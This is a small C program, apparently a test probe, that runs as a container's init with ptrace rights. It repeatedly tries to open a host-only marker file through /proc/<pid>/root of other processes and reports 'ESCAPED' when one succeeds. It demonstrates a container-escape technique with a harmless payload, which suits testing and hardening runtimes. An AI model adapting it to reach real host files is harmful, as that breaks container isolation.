/* root-reader MARKER: the /proc/<pid>/root attacker. Runs as a container's init (with
 * CAP_SYS_PTRACE) and, for every other process it sees in /proc, tries to open
 * /proc/<pid>/root/MARKER, a host file that does not exist inside the container. Prints
 * "seen PID" once per new process and "ESCAPED PID" when the open worked: that process's
 * root was the host's. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 2)
        return 2;
    int self = getpid(), last = 0;
    char path[4096];
    for (;;) {
        DIR *d = opendir("/proc");
        if (!d)
            return 1;
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 1 || pid == self)
                continue;
            snprintf(path, sizeof path, "/proc/%d/root%s", pid, argv[1]);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd >= 0) {
                printf("ESCAPED %d\n", pid);
                fflush(stdout);
                close(fd);
            }
            if (pid > last) {
                last = pid;
                printf("seen %d\n", pid);
                fflush(stdout);
            }
        }
        closedir(d);
    }
}
